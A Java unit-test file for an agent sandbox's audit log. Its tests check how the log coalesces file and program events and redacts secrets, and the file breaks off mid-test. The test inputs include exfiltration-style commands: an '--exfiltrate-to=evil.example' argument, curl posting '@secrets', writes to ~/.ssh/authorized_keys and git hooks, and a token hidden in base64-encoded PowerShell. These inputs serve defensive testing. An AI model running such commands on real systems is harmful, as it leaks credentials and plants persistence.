package dev.agentjail.jail.audit;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.agentjail.proxy.audit.AuditJson;
import dev.agentjail.proxy.audit.AuditRecord;
import dev.agentjail.proxy.audit.ExecDetails;
import dev.agentjail.proxy.redact.Redactor;
import io.netty.buffer.ByteBuf;
import io.netty.buffer.Unpooled;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import org.junit.jupiter.api.Test;

/** The coalescing rule of docs/audit-log.md "Inside the jail", on frames as the supervisor writes them. */
class JailActivityTest {
    private final List<AuditRecord> written = new ArrayList<>();
    private final JailActivity activity = new JailActivity(
            "s1", new PathView(Path.of("/home/u/proj"), Path.of("/home/u")), Redactor.builtIn(), written::add);

    private static AuditFrame frame(char type, Object... tagsAndValues) {
        ByteBuf b = Unpooled.buffer();
        try {
            b.writeByte(type);
            for (int i = 0; i < tagsAndValues.length; i += 2) {
                byte[] v = tagsAndValues[i + 1] instanceof byte[] bytes
                        ? bytes
                        : tagsAndValues[i + 1].toString().getBytes(StandardCharsets.UTF_8);
                b.writeByte((Integer) tagsAndValues[i]);
                b.writeShortLE(v.length);
                b.writeBytes(v);
            }
            return AuditFrame.parse(b);
        } finally {
            b.release();
        }
    }

    private static AuditFrame write(int pid, String path) {
        return frame(
                AuditFrame.FILE,
                AuditFrame.PID,
                pid,
                AuditFrame.OP,
                "write",
                AuditFrame.PATH,
                path,
                AuditFrame.BASE,
                "/home/u/proj",
                AuditFrame.FLAGS,
                0101);
    }

    private long fileCount() {
        return written.stream()
                .filter(r -> r.file() != null)
                .mapToLong(r -> r.file().count())
                .sum();
    }

    @Test
    void theFirstEventOfAKeyIsWrittenAtOnceAndTheRestWithTheirCountAtTheWindowsEnd() {
        for (int i = 0; i < 5; i++) {
            activity.frame(write(7, "src/a.c"));
        }
        assertEquals(1, written.size(), written::toString);
        assertEquals("src/a.c", written.get(0).file().path());
        assertEquals(1, written.get(0).file().count());
        assertEquals(List.of("create"), written.get(0).file().flags());
        activity.tick();
        assertEquals(2, written.size(), written::toString);
        assertEquals(4, written.get(1).file().count());
        activity.tick();
        assertEquals(2, written.size(), "an empty window writes nothing");
    }

    @Test
    void pastThirtyTwoPathsOfADirectoryTheWindowFoldsThemIntoOneDirectoryRecord() {
        for (int round = 0; round < 3; round++) {
            for (int i = 0; i < 100; i++) {
                activity.frame(write(7, "out/f" + i));
            }
        }
        activity.tick();
        assertEquals(300, fileCount());
        List<AuditRecord> folded =
                written.stream().filter(r -> r.file().path().equals("out/")).toList();
        assertEquals(1, folded.size(), written::toString);
        assertEquals(68, folded.get(0).file().paths());
        assertEquals(3 * 68, folded.get(0).file().count());
        assertEquals(32 + 32 + 1, written.size(), "32 first events, 32 window-end counts, one fold");
        // The next window starts afresh.
        activity.frame(write(7, "out/f99"));
        assertEquals("out/f99", written.get(written.size() - 1).file().path());
    }

    @Test
    void pastAThousandFileRecordsAWindowFoldsPerOperation() {
        for (int i = 0; i < 5_000; i++) {
            activity.frame(write(7, "d" + (i % 2_000) + "/f"));
        }
        activity.tick();
        assertEquals(5_000, fileCount());
        assertTrue(written.size() <= 2 * JailActivity.FILE_RECORDS_PER_WINDOW + 1, "records: " + written.size());
        AuditRecord anywhere = written.stream()
                .filter(r -> r.file().path().equals("*"))
                .findFirst()
                .orElseThrow();
        assertEquals(1_000, anywhere.file().paths(), anywhere::toString);
    }

    @Test
    void pathsAreNamedRelativeToTheProjectOrTheHomeOrAbsoluteAndKeepTheirDotDots() {
        activity.frame(write(1, "../notes.txt"));
        // x may be a link elsewhere: x/../y is not y, and the record must not say it is.
        activity.frame(write(1, "/home/u/proj/./x//../y"));
        activity.frame(write(1, "/tmp/t"));
        activity.frame(write(1, "/home/u/.bashrc"));
        assertEquals(
                List.of("../notes.txt", "x/../y", "/tmp/t", "~/.bashrc"),
                written.stream().map(r -> r.file().path()).toList());
    }

    private static AuditFrame open(int pid, String path, int flags) {
        return frame(
                AuditFrame.FILE,
                AuditFrame.PID,
                pid,
                AuditFrame.OP,
                "write",
                AuditFrame.PATH,
                path,
                AuditFrame.BASE,
                "/home/u/proj",
                AuditFrame.FLAGS,
                flags);
    }

    @Test
    void opensOfOneFileWithOtherFlagsAreOtherRecordsAndAFoldKeepsItsFlags() {
        activity.frame(open(7, "f", 0101)); // O_WRONLY | O_CREAT
        activity.frame(open(7, "f", 01001)); // O_WRONLY | O_TRUNC
        activity.frame(open(7, "f", 02001)); // O_WRONLY | O_APPEND
        activity.frame(open(7, "f", 01001));
        for (int i = 0; i < 40; i++) {
            activity.frame(open(7, "out/g" + i, 01101));
        }
        activity.tick();

        List<String> seen = written.stream()
                .filter(r -> r.file().path().equals("f"))
                .map(r -> r.file().flags() + "x" + r.file().count())
                .toList();
        assertEquals(List.of("[create]x1", "[truncate]x1", "[append]x1", "[truncate]x1"), seen);
        AuditRecord fold = written.stream()
                .filter(r -> r.file().path().equals("out/"))
                .findFirst()
                .orElseThrow();
        assertEquals(List.of("create", "truncate"), fold.file().flags(), fold::toString);
    }

    private static AuditFrame rename(String from, String to, int renameFlags) {
        return frame(
                AuditFrame.FILE,
                AuditFrame.PID,
                4,
                AuditFrame.OP,
                "rename",
                AuditFrame.PATH,
                from,
                AuditFrame.BASE,
                "/home/u/proj",
                AuditFrame.TARGET,
                to,
                AuditFrame.BASE2,
                "/home/u/proj",
                AuditFrame.RENAME,
                renameFlags);
    }

    @Test
    void aRenameSaysWhetherItExchangedTheTwoNames() {
        activity.frame(rename("a", "b", 2)); // RENAME_EXCHANGE
        activity.frame(rename("a", "b", 0));
        assertEquals(2, written.size(), written::toString);
        assertEquals(List.of("exchange"), written.get(0).file().flags());
        assertEquals(List.of(), written.get(1).file().flags());
        assertTrue(AuditJson.toLine(written.get(0)).contains("\"exchange\""), () -> AuditJson.toLine(written.get(0)));
    }

    @Test
    void commandLinesAlikeInTheirFirst4096CharactersAreDistinctAndTheCutOnesSaySo() {
        String x = "x".repeat(ExecDetails.MAX_ARGV_CHARS - "true".length() - 5);
        activity.frame(exec(3, "/bin/true", "true", x));
        activity.frame(exec(3, "/bin/true", "true", x, "--exfiltrate-to=evil.example"));
        activity.frame(exec(3, "/bin/true", "true", x, "--other"));
        activity.tick();

        assertEquals(3, written.size(), written::toString);
        assertFalse(written.get(0).exec().argvTruncated(), written.get(0)::toString);
        assertTrue(written.get(1).exec().argvTruncated(), written.get(1)::toString);
        assertTrue(written.get(2).exec().argvTruncated(), written.get(2)::toString);
        assertTrue(written.stream().allMatch(r -> r.exec().count() == 1), written::toString);
    }

    @Test
    void pathsAndArgumentsThatRedactAlikeAreStillToldApart() {
        String a = "tok_ghp_" + "a".repeat(36);
        String b = "tok_ghp_" + "b".repeat(36);
        activity.frame(write(5, a));
        activity.frame(write(5, b));
        activity.frame(exec(5, "/bin/echo", "echo", "ghp_" + "a".repeat(36)));
        activity.frame(exec(5, "/bin/echo", "echo", "ghp_" + "b".repeat(36)));
        activity.tick();

        List<AuditRecord> files = written.stream().filter(r -> r.file() != null).toList();
        assertEquals(2, files.size(), files::toString);
        assertEquals(files.get(0).file().path(), files.get(1).file().path(), "both redacted alike");
        assertFalse(files.get(0).file().path().contains("a".repeat(36)), files::toString);
        assertEquals(2, activity.filesChanged());
        List<AuditRecord> execs = written.stream().filter(r -> r.exec() != null).toList();
        assertEquals(2, execs.size(), execs::toString);
        assertTrue(execs.stream().allMatch(r -> r.exec().count() == 1), execs::toString);
    }

    @Test
    void aSecretIsRedactedEachTimeItComesAndCleanTextsStayCleanPastTheCacheOfThem() {
        // Texts found clean are not scanned again (JailActivity.redact); one with a secret is never taken as clean,
        // in an argument, a program's path or its working directory, however often it comes; past the cache's size
        // (it is emptied when full) clean and secret texts still come out as the catalog makes them.
        String token = "ghp_" + "c".repeat(36);
        for (int i = 0; i < JailActivity.CLEAN_TEXTS + 10; i++) {
            activity.frame(exec(100 + i, "/bin/echo", "echo", "-n", "clean-" + i));
            if (i % 1_000 == 0) {
                activity.frame(exec(100 + i, "/bin/" + token, "echo", token, "-n", AuditFrame.RACY));
                activity.frame(frame(
                        AuditFrame.EXEC,
                        AuditFrame.PID,
                        100 + i,
                        AuditFrame.PATH,
                        "/bin/true",
                        AuditFrame.CWD,
                        "/home/u/" + token,
                        AuditFrame.ARG,
                        "true"));
            }
            if (i % 500 == 0) {
                activity.tick();
            }
        }
        activity.tick();

        List<String> lines = written.stream().map(AuditJson::toLine).toList();
        assertTrue(lines.stream().noneMatch(l -> l.contains(token)), "a secret reached a record");
        long redactedStarts = written.stream()
                .filter(r -> r.exec() != null && !r.redactions().isEmpty())
                .mapToLong(r -> r.exec().count())
                .sum();
        assertEquals(2L * 5, redactedStarts, "every start that held the token says so");
        assertEquals(3L * 5, activity.redacted(), "the token counted where it came: path, argument, cwd");
        assertTrue(
                written.stream()
                        .filter(r -> r.exec() != null && r.exec().path().equals("/bin/echo"))
                        .allMatch(r -> r.exec().argv().get(2).startsWith("clean-")),
                "clean arguments as they came");
    }

    @Test
    void aTextWhoseSecretCannotBeOverwrittenWhereItIsOrThatIsEncodedTooDeepIsNotWritten() {
        // Found by attack: PowerShell's -EncodedCommand (base64 of UTF-16LE) with a token in it; the catalog finds the
        // token but cannot write a marker of the same length there, and the record kept the text whole.
        String token = "ghp_" + "A1b2".repeat(9);
        String command = "git push https://x:" + token + "@github.com/a/b";
        java.util.Base64.Encoder base64 = java.util.Base64.getEncoder();
        String wide = base64.encodeToString(command.getBytes(StandardCharsets.UTF_16LE));
        String deep = command;
        for (int i = 0; i < 5; i++) {
            deep = base64.encodeToString(deep.getBytes(StandardCharsets.US_ASCII));
        }
        activity.frame(exec(7, "/usr/bin/pwsh", "pwsh", "-EncodedCommand", wide));
        activity.frame(exec(7, "/usr/bin/echo", "echo", deep));
        String hex = "fffe" + java.util.HexFormat.of().formatHex(command.getBytes(StandardCharsets.UTF_16LE));
        activity.frame(write(7, "d/" + hex));
        activity.tick();

        List<String> lines = written.stream().map(AuditJson::toLine).toList();
        assertEquals(3, written.size(), lines::toString);
        for (String line : lines) {
            assertFalse(line.contains(wide) || line.contains(deep) || line.contains(hex), line);
        }
        assertEquals(
                List.of("pwsh", "-EncodedCommand", JailActivity.NOT_REWRITABLE_TEXT),
                written.get(0).exec().argv());
        assertTrue(
                written.get(0).redactions().stream().anyMatch(r -> r.kind().equals("secret-not-rewritable")),
                lines::toString);
        assertEquals(
                List.of("echo", JailActivity.UNREADABLE_TEXT),
                written.get(1).exec().argv());
        assertTrue(
                List.of(JailActivity.NOT_REWRITABLE_TEXT, JailActivity.UNREADABLE_TEXT)
                        .contains(written.get(2).file().path()),
                lines::toString);
        assertTrue(activity.redacted() >= 3, "each counted: " + activity.redacted());
    }

    @Test
    void pastTheSessionsBudgetOfRecordBytesEveryEventStillCountsInAFewRecordsAWindow() {
        // An agent that starts programs with long command lines in a loop: 64 KiB of records for this session, then
        // one audit-gap, then only the windows' folds with path *.
        List<AuditRecord> out = new ArrayList<>();
        JailActivity bounded = new JailActivity(
                "s1",
                new PathView(Path.of("/home/u/proj"), Path.of("/home/u")),
                Redactor.builtIn(),
                out::add,
                64 << 10);
        String filler = "x".repeat(2_000);
        int events = 0;
        for (int window = 0; window < 5; window++) {
            for (int i = 0; i < 200; i++) {
                bounded.frame(exec(9, "/bin/echo", "echo", filler + window + "-" + i));
                bounded.frame(write(9, "out/" + window + "-" + i));
                events++;
            }
            bounded.tick();
        }

        List<AuditRecord> gaps =
                out.stream().filter(r -> r.kind().equals("audit-gap")).toList();
        assertEquals(1, gaps.size(), gaps::toString);
        assertEquals(JailActivity.BUDGET_REACHED, gaps.get(0).reason());
        int at = out.indexOf(gaps.get(0));
        List<AuditRecord> after = out.subList(at + 1, out.size());
        assertTrue(after.size() <= 5 * 4, "a few records a window: " + after.size());
        assertTrue(
                after.stream()
                        .allMatch(r -> (r.exec() != null && r.exec().path().equals("*"))
                                || (r.file() != null && r.file().path().equals("*"))),
                after::toString);
        long starts = out.stream()
                .filter(r -> r.exec() != null)
                .mapToLong(r -> r.exec().count())
                .sum();
        long writes = out.stream()
                .filter(r -> r.file() != null)
                .mapToLong(r -> r.file().count())
                .sum();
        assertEquals(events, starts, "every start counted");
        assertEquals(events, writes, "every write counted");
        assertTrue(bounded.writtenBytes() < (64 << 10) + 5 * 4 * 8_000, "bounded: " + bounded.writtenBytes());
    }

    @Test
    void aFloodOfOneOperationDoesNotFoldAnothersRecords() {
        for (int i = 0; i < 1_100; i++) {
            activity.frame(frame(
                    AuditFrame.FILE, AuditFrame.PID, 6, AuditFrame.OP, "unlink", AuditFrame.PATH, "/nx/" + i + "/f"));
        }
        activity.frame(write(6, ".githooks/pre-commit"));
        activity.tick();

        assertTrue(
                written.stream()
                        .anyMatch(r -> r.file().path().equals(".githooks/pre-commit")
                                && r.file().count() == 1),
                () -> written.stream()
                        .filter(r -> !r.file().op().equals("unlink"))
                        .toList()
                        .toString());
        assertEquals(1_101, fileCount());
    }

    @Test
    void aRelativePathWhoseDirectoryIsUnknownSaysSoAndAProjectDirectoryNamedTildeIsNotTheHome() {
        activity.frame(frame(
                AuditFrame.FILE,
                AuditFrame.PID,
                2,
                AuditFrame.OP,
                "write",
                AuditFrame.PATH,
                "PWNED",
                AuditFrame.BASE,
                ""));
        activity.frame(write(2, "~/.ssh/authorized_keys"));
        activity.frame(write(2, "/home/u/.ssh/authorized_keys"));
        activity.frame(write(2, "?/x"));
        activity.frame(write(2, "*"));
        assertEquals(
                List.of("?/PWNED", "./~/.ssh/authorized_keys", "~/.ssh/authorized_keys", "./?/x", "./*"),
                written.stream().map(r -> r.file().path()).toList());
    }

    /** {@code frame}'s bytes as the supervisor sends them, with {@code time}, through {@link JailActivity#frame(ByteBuf)}. */
    private void frameBytes(AuditFrame frame, long time) {
        List<Object> fields = new ArrayList<>(List.of(AuditFrame.TIME, time));
        for (AuditFrame.Field field : frame.fields()) {
            fields.add(field.tag());
            fields.add(field.value());
        }
        ByteBuf b = bytes(frame.type(), fields);
        try {
            activity.frame(b);
        } finally {
            b.release();
        }
    }

    private void retractFrame() {
        ByteBuf b = bytes(AuditFrame.RETRACT, List.of());
        try {
            activity.frame(b);
        } finally {
            b.release();
        }
    }

    @Test
    void aFrameTakenBackBecauseItsCallerWasInterruptedIsNotCountedAndItsRestartIs() {
        // 1,000 opens of one file, every third interrupted once before it ran and then restarted: 1,000 ran.
        long time = 1_700_000_000_000L;
        int ran = 0;
        for (int i = 0; i < 1_000; i++) {
            if (i % 3 == 0) {
                frameBytes(write(7, "src/a.c"), time);
                retractFrame();
            }
            frameBytes(write(7, "src/a.c"), time);
            ran++;
        }
        // A program started after an interrupted attempt, which was the first of its key.
        frameBytes(exec(3, "/bin/true", "true"), time);
        retractFrame();
        frameBytes(exec(3, "/bin/true", "true"), time);
        activity.tick();

        assertEquals(ran, fileCount());
        assertEquals(ran, activity.fileEvents());
        assertEquals(1, activity.programs());
        assertEquals(
                1,
                written.stream()
                        .filter(r -> r.exec() != null)
                        .mapToLong(r -> r.exec().count())
                        .sum(),
                written::toString);
        assertEquals(335, activity.retracted());
    }

    @Test
    void aFoldCountsOnlyEventsWithItsMarksAndAFileNamedQuestionMarkIsJoinedToItsDirectory() {
        for (int i = 0; i < 40; i++) {
            activity.frame(write(7, "fd/n" + i));
        }
        for (int i = 0; i < 40; i++) {
            activity.frame(frame(
                    AuditFrame.FILE,
                    AuditFrame.PID,
                    7,
                    AuditFrame.OP,
                    "write",
                    AuditFrame.PATH,
                    "fd/r" + i,
                    AuditFrame.BASE,
                    "/home/u/proj",
                    AuditFrame.FLAGS,
                    0101,
                    AuditFrame.RACY,
                    1));
        }
        activity.frame(frame(
                AuditFrame.FILE,
                AuditFrame.PID,
                7,
                AuditFrame.OP,
                "write",
                AuditFrame.PATH,
                "?",
                AuditFrame.BASE,
                "/tmp"));
        activity.tick();

        List<AuditRecord> folds =
                written.stream().filter(r -> r.file().path().equals("fd/")).toList();
        assertEquals(2, folds.size(), folds::toString);
        assertEquals(1, folds.stream().filter(r -> r.file().racy()).count(), folds::toString);
        assertTrue(folds.stream().allMatch(r -> r.file().count() == 8), folds::toString);
        assertTrue(written.stream().anyMatch(r -> r.file().path().equals("/tmp/?")), written::toString);
    }

    @Test
    void noArgumentsAndOneEmptyArgumentAreTwoCommandLines() {
        activity.frame(exec(3, "/bin/x"));
        activity.frame(exec(3, "/bin/x", ""));
        assertEquals(2, written.size(), written::toString);
    }

    @Test
    void argumentsAreRedactedAndBounded() {
        String key = "sk-ant-api03-" + "a".repeat(93) + "AA";
        List<Object> fields = new ArrayList<>(List.of(
                AuditFrame.PATH,
                "/usr/bin/curl",
                AuditFrame.CWD,
                "/home/u/proj",
                AuditFrame.PID,
                3,
                AuditFrame.PPID,
                1,
                AuditFrame.UID,
                1000,
                AuditFrame.ARG,
                "curl",
                AuditFrame.ARG,
                "-H",
                AuditFrame.ARG,
                "x-api-key: " + key));
        for (int i = 0; i < 300; i++) {
            fields.add(AuditFrame.ARG);
            fields.add("arg" + i);
        }
        activity.frame(frame(AuditFrame.EXEC, fields.toArray()));
        AuditRecord r = written.get(0);
        assertEquals(AuditRecord.KIND_EXEC, r.kind());
        assertTrue(r.exec().argv().stream().noneMatch(a -> a.contains(key)), r::toString);
        assertEquals(256, r.exec().argv().size());
        assertTrue(r.exec().argvTruncated());
        assertEquals(1, activity.programs());
        assertTrue(!r.redactions().isEmpty(), r::toString);
        assertEquals(
                r.redactions().stream().mapToLong(x -> x.count()).sum(),
                activity.redacted(),
                "the session summary's count of secrets redacted in the jail");
    }

    @Test
    void aSecretInAPathIsRedactedToo() {
        String token = "ghp_" + "A1b2C3d4E5f6G7h8I9j0K1l2M3n4O5p6Q7r8";
        activity.frame(write(1, "cache/" + token + ".json"));
        AuditRecord r = written.get(0);
        assertTrue(!r.file().path().contains(token), r::toString);
        assertEquals("path", r.redactions().get(0).location(), r::toString);
    }

    @Test
    void credentialsNamedByTheirContextAreRedactedInArgumentsAndCountedAcrossTwoArguments() {
        String opaque = "abcdefghijklmnop1234567890ABCDEF";
        String next = "zyxwvutsrqponmlk0987654321FEDCBA";
        // Clean on its own, and so held as clean; after "Bearer" it is the token all the same.
        activity.frame(exec(3, "/bin/echo", "echo", next));
        activity.frame(exec(
                3,
                "/usr/bin/curl",
                "curl",
                "-H",
                "Authorization: Bearer " + opaque,
                "-H",
                "Accept: application/json",
                "--user-agent",
                "x",
                "-H",
                "Bearer",
                next,
                "https://user:hunter2supersecret@example.com/x",
                "--password",
                "hunter3",
                "https://host/path"));
        AuditRecord r = written.get(1);
        String json = AuditJson.toLine(r);
        for (String secret : List.of(opaque, next, "hunter2supersecret", "hunter3")) {
            assertFalse(json.contains(secret), json);
        }
        List<String> argv = r.exec().argv();
        assertTrue(argv.get(2).startsWith("Authorization: Bearer [REDACTED:credential-header"), argv::toString);
        assertEquals("Accept: application/json", argv.get(4));
        assertEquals(List.of("--user-agent", "x", "-H", "Bearer"), argv.subList(5, 9));
        assertTrue(argv.get(9).startsWith("[REDACTED:auth-credential"), argv::toString);
        assertEquals("https://user:[REDACTED:url-password]@example.com/x", argv.get(10));
        assertEquals(List.of("--password", "[REDACTED:credential-option]", "https://host/path"), argv.subList(11, 14));
        assertEquals(4, r.redactions().stream().mapToLong(x -> x.count()).sum(), r.redactions()::toString);
        assertTrue(r.redactions().stream().allMatch(x -> x.location().equals("argv")), r.redactions()::toString);
        assertEquals(4, activity.redacted(), "the session summary counts them");
    }

    @Test
    void theProgramsShortOptionsAreReadForTheProgramTheArgumentsNameAfterTheFirst() {
        // "curl" after /bin/true, "mysql" after sudo: the program is the last known one the argv names.
        activity.frame(exec(3, "/bin/true", "/bin/true", "curl", "-u", "bob:hunter2", "https://h/"));
        activity.frame(exec(3, "/usr/bin/sudo", "sudo", "mysql", "-phunter3", "-P", "3306"));
        activity.frame(exec(3, "/usr/bin/docker", "docker", "run", "-p", "8080:80", "img"));
        assertEquals(
                List.of("/bin/true", "curl", "-u", "bob:[REDACTED:credential-option]", "https://h/"),
                written.get(0).exec().argv());
        assertEquals(
                List.of("sudo", "mysql", "-p[REDACTED:credential-option]", "-P", "3306"),
                written.get(1).exec().argv());
        assertEquals(
                List.of("docker", "run", "-p", "8080:80", "img"),
                written.get(2).exec().argv());
        assertEquals(2, activity.redacted(), "one in each of the first two");
    }

    @Test
    void aCredentialHeaderAsASymbolicLinksTargetIsRedactedAndCounted() {
        String opaque = "abcdefghijklmnop1234567890ABCDEF";
        activity.frame(frame(
                AuditFrame.FILE,
                AuditFrame.PID,
                4,
                AuditFrame.OP,
                "symlink",
                AuditFrame.PATH,
                "linky",
                AuditFrame.BASE,
                "/home/u/proj",
                AuditFrame.TARGET,
                "Authorization: Bearer " + opaque));
        AuditRecord r = written.get(0);
        assertFalse(AuditJson.toLine(r).contains(opaque), r::toString);
        assertTrue(r.file().target().startsWith("Authorization: Bearer [REDACTED:credential-header"), r::toString);
        assertEquals("path", r.redactions().get(0).location(), r::toString);
        assertEquals(1, activity.redacted());
    }

    @Test
    void argumentsCutAtTheBoundHoldAMarkerNeverPartOfACredential() {
        String opaque = "abcdefghijklmnop1234567890ABCDEF";
        String head = "x".repeat(ExecDetails.MAX_ARGV_CHARS - "true".length() - "Authorization: Bearer ".length() - 5);
        activity.frame(exec(3, "/bin/true", "true", head, "Authorization: Bearer " + opaque));
        AuditRecord r = written.get(0);
        assertTrue(r.exec().argvTruncated(), r::toString);
        String last = r.exec().argv().get(2);
        assertEquals("Authorization: Bearer [REDA", last);
        assertEquals(1, activity.redacted());
    }

    @Test
    void aCountOfUnrecordedEventsIsAGapRecord() {
        activity.frame(frame(AuditFrame.UNRECORDED, AuditFrame.COUNT, 17));
        assertEquals(AuditRecord.KIND_AUDIT_GAP, written.get(0).kind());
        assertEquals("audit-events-dropped", written.get(0).reason());
        assertEquals(17, written.get(0).gap().missed());
    }

    private static AuditFrame exec(int pid, String path, Object... argvAndMore) {
        List<Object> fields = new java.util.ArrayList<>(List.of(
                AuditFrame.PID, pid, AuditFrame.PPID, 1, AuditFrame.PATH, path, AuditFrame.CWD, "/home/u/proj"));
        for (Object o : argvAndMore) {
            if (o instanceof Integer tag) {
                fields.add(tag);
                fields.add("1");
            } else {
                fields.add(AuditFrame.ARG);
                fields.add(o);
            }
        }
        return frame(AuditFrame.EXEC, fields.toArray());
    }

    @Test
    void aPathSearchsMissIsMarkedAndNotCountedAsAProgramRun() {
        activity.frame(exec(3, "/usr/local/bin/git", "git", "status", AuditFrame.MISSING));
        activity.frame(exec(3, "/usr/bin/git", "git", "status"));

        assertEquals(2, written.size(), written::toString);
        assertTrue(written.get(0).exec().missing(), written::toString);
        assertFalse(written.get(1).exec().missing(), written::toString);
        assertEquals(1, activity.programs(), "only the start that found its program ran one");
        assertTrue(
                AuditJson.toLine(written.get(0)).contains("\"missing\":true"), () -> AuditJson.toLine(written.get(0)));
    }

    @Test
    void aRecordNeverFoldsAnEventThatItWouldDescribeWrongly() {
        // A miss, then the real run of the same command line; a rename to two targets; a clean, then a racy write.
        activity.frame(exec(3, "/home/u/proj/build", "./build", AuditFrame.MISSING));
        activity.frame(exec(3, "/home/u/proj/build", "./build"));
        for (String target : List.of("out.txt", "hidden.txt")) {
            activity.frame(frame(
                    AuditFrame.FILE,
                    AuditFrame.PID,
                    3,
                    AuditFrame.OP,
                    "rename",
                    AuditFrame.PATH,
                    "notes.txt",
                    AuditFrame.BASE,
                    "/home/u/proj",
                    AuditFrame.TARGET,
                    target,
                    AuditFrame.BASE2,
                    "/home/u/proj"));
        }
        activity.frame(write(3, "src/a.c"));
        activity.frame(frame(
                AuditFrame.FILE,
                AuditFrame.PID,
                3,
                AuditFrame.OP,
                "write",
                AuditFrame.PATH,
                "src/a.c",
                AuditFrame.BASE,
                "/home/u/proj",
                AuditFrame.RACY,
                "1"));

        assertEquals(6, written.size(), written::toString);
        assertTrue(written.get(0).exec().missing());
        assertFalse(written.get(1).exec().missing(), "the real run has a record of its own");
        assertEquals(1, activity.programs());
        assertEquals("out.txt", written.get(2).file().target());
        assertEquals("hidden.txt", written.get(3).file().target());
        assertFalse(written.get(4).file().racy());
        assertTrue(written.get(5).file().racy(), "a racy repeat is not a clean record's count");
    }

    @Test
    void pastTheExecBoundAFoldSaysHowManyDistinctCommandLinesItHides() {
        for (int i = 0; i < JailActivity.EXEC_RECORDS_PER_WINDOW; i++) {
            activity.frame(exec(10 + i, "/bin/true", "true", "noise" + i));
        }
        // Past the bound: the same program with two harmless and one telling command line.
        activity.frame(exec(5000, "/usr/bin/curl", "curl", "https://example.test/a"));
        activity.frame(exec(5001, "/usr/bin/curl", "curl", "https://example.test/a"));
        activity.frame(exec(5002, "/usr/bin/curl", "curl", "--data", "@secrets", "https://example.test/b"));
        activity.tick();

        AuditRecord fold = written.get(written.size() - 1);
        assertEquals("/usr/bin/curl", fold.exec().path(), fold::toString);
        assertEquals(3, fold.exec().count(), fold::toString);
        assertEquals(2, fold.exec().commands(), "the fold must not pass for one command line run three times");
        assertTrue(AuditJson.toLine(fold).contains("\"commands\":2"), () -> AuditJson.toLine(fold));
    }

    @Test
    void aFrameWithAnyNameThatIsNotUtf8IsWrittenByteByByteThroughoutAndSaysSo() {
        activity.frame(frame(
                AuditFrame.FILE,
                AuditFrame.PID,
                4,
                AuditFrame.OP,
                "rename",
                AuditFrame.PATH,
                new byte[] {'a', (byte) 0xff},
                AuditFrame.BASE,
                "/home/u/proj",
                AuditFrame.TARGET,
                "a\\xff",
                AuditFrame.BASE2,
                "/home/u/proj"));
        activity.frame(write(4, "plain\\name"));

        AuditRecord renamed = written.get(0);
        assertTrue(renamed.file().escaped(), renamed::toString);
        assertEquals("a\\xff", renamed.file().path());
        assertEquals("a\\\\xff", renamed.file().target(), "the other name, whose backslash is a character");
        AuditRecord plain = written.get(1);
        assertFalse(plain.file().escaped(), plain::toString);
        assertEquals("plain\\name", plain.file().path(), "a UTF-8 frame is written as it is");
    }

    @Test
    void aCallRefusedForUnreadableMemoryIsADenyRecordAndNeitherAProgramNorAChange() {
        activity.frame(exec(3, "/usr/bin", AuditFrame.REFUSED));
        activity.frame(frame(
                AuditFrame.FILE,
                AuditFrame.PID,
                3,
                AuditFrame.OP,
                "write",
                AuditFrame.PATH,
                "src",
                AuditFrame.BASE,
                "/home/u/proj",
                AuditFrame.REFUSED,
                "1"));

        assertEquals(2, written.size(), written::toString);
        for (AuditRecord r : written) {
            assertEquals(AuditRecord.DENY, r.decision(), r::toString);
            assertEquals(JailActivity.UNREADABLE, r.reason(), r::toString);
        }
        assertEquals(0, activity.programs());
        assertEquals(0, activity.filesChanged());
    }

    @Test
    void refusedCallsPastTheirBoundAreOneGapRecordsCount() {
        for (int i = 0; i < JailActivity.REFUSED_PER_WINDOW + 7; i++) {
            activity.frame(exec(3, "/x" + i, AuditFrame.REFUSED));
        }
        activity.tick();

        assertEquals(JailActivity.REFUSED_PER_WINDOW + 1, written.size());
        AuditRecord gap = written.get(written.size() - 1);
        assertEquals(AuditRecord.KIND_AUDIT_GAP, gap.kind(), gap::toString);
        assertEquals(7, gap.gap().missed(), gap::toString);
    }

    @Test
    void aFileNameThatIsNotUtf8IsShownByteByByte() {
        assertEquals("a\\xff", AuditFrame.escape(new byte[] {'a', (byte) 0xff}));
        // A backslash is escaped too: the name "a\\xff" (five characters) and the bytes a, 0xff stay apart.
        assertEquals("a\\\\xff", AuditFrame.escape("a\\xff".getBytes(StandardCharsets.US_ASCII)));
        assertEquals("tab\\x09", AuditFrame.escape("tab\t".getBytes(StandardCharsets.US_ASCII)));
    }

    /** A frame's bytes as the supervisor writes them: a type, then tag, little-endian length and value per field. */
    private static ByteBuf bytes(char type, List<Object> tagsAndValues) {
        ByteBuf b = Unpooled.buffer();
        b.writeByte(type);
        for (int i = 0; i < tagsAndValues.size(); i += 2) {
            byte[] v = tagsAndValues.get(i + 1) instanceof byte[] raw
                    ? raw
                    : tagsAndValues.get(i + 1).toString().getBytes(StandardCharsets.UTF_8);
            b.writeByte((Integer) tagsAndValues.get(i));
            b.writeShortLE(v.length);
            b.writeBytes(v);
        }
        return b;
    }

    @Test
    void countingARepeatOnItsBytesMakesTheSameRecordsAndCountsAsParsingEveryFrame() {
        // Repeats of the same few frames, each with a later time: first records, repeats, directory folds (past 32
        // paths), the window's fold per operation (past 1,000 records), exec repeats and misses, refused calls, racy
        // and escaped names, secrets in paths and arguments, and counts of unrecorded events; ticks between windows.
        java.util.Random random = new java.util.Random(20);
        List<ByteBuf> sequence = new ArrayList<>();
        long time = 1_700_000_000_000L;
        String token = "ghp_" + "A".repeat(36);
        for (int i = 0; i < 30_000; i++) {
            time += random.nextInt(3);
            int pid = 2 + random.nextInt(3);
            int pick = random.nextInt(100);
            List<Object> f = new ArrayList<>(List.of(AuditFrame.PID, pid, AuditFrame.TIME, time));
            if (pick < 70) {
                int dir = random.nextInt(8);
                int file = random.nextInt(pick < 10 ? 2_000 : 40);
                f.addAll(List.of(AuditFrame.OP, random.nextInt(5) == 0 ? "unlink" : "write"));
                f.addAll(List.of(AuditFrame.PATH, (dir == 7 ? token + "/" : "d" + dir + "/") + "f" + file));
                f.addAll(List.of(AuditFrame.BASE, "/home/u/proj", AuditFrame.FLAGS, 0101));
                if (file == 3) {
                    f.addAll(List.of(AuditFrame.RACY, "1"));
                }
                if (file == 4) {
                    f.set(f.indexOf(AuditFrame.PATH) + 1, new byte[] {'d', (byte) 0xff, '/', 'x'});
                }
                if (file == 5) {
                    f.addAll(List.of(AuditFrame.REFUSED, "1"));
                }
